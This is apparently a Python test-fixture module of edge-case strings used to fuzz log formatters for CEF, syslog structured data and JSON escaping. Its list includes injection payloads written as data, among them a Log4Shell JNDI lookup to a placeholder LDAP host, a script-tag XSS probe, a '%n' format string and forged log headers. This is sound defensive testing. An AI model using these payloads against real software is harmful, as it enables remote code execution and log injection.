"""Strings that break naive formatters: every one is valid UTF-8 and NUL-free.

Each targets a real escaping rule downstream: CEF (``|``, ``\\``, ``=``), RFC 5424
structured data (``"``, ``\\``, ``]``), line-oriented transports (LF, CR), JSON, and
size limits (a 10 KB value).
"""

from __future__ import annotations

import random

LONG_VALUE = 'long|value=with\\escapes]and"quotes ' + "x" * 10_000

HOSTILE_STRINGS: tuple[str, ...] = (
    "pipe|in|the|middle",
    "back\\slash\\\\double",
    "key=value==",
    "double \"quoted\" and 'single'",
    "closing]bracket]]",
    '[sd-id@32473 fake="injected"]',
    "multi\nline\nvalue",
    "carriage\rreturn",
    "crlf\r\nnew line",
    "tab\tseparated",
    "CEF:0|Evil|Header|1|x|y|10|",
    "émoji 🚀 ünïcödé ✓ 日本語",
    "RTL \u202eevil\u202c שלום مرحبا",
    "zero\u200bwidth\u200djoiner",
    "combining e\u0301 a\u0308",
    '{"json": "like", "n": [1, 2]}',
    "<script>alert('x')</script>",
    "${jndi:ldap://example.invalid/a}",
    "percent %s %n %% %d",
    "trailing backslash \\",
    " leading and trailing spaces ",
    LONG_VALUE,
)


def hostile(rng: random.Random) -> str:
    return rng.choice(HOSTILE_STRINGS)


def maybe_hostile(rng: random.Random, value: str, enabled: bool, rate: float = 0.25) -> str:
    """``value``, or (in hostile mode, with probability ``rate``) a hostile variant of it."""
    if not enabled or rng.random() >= rate:
        return value
    pick = rng.choice(HOSTILE_STRINGS)
    return pick if rng.random() < 0.3 else f"{value} {pick}"
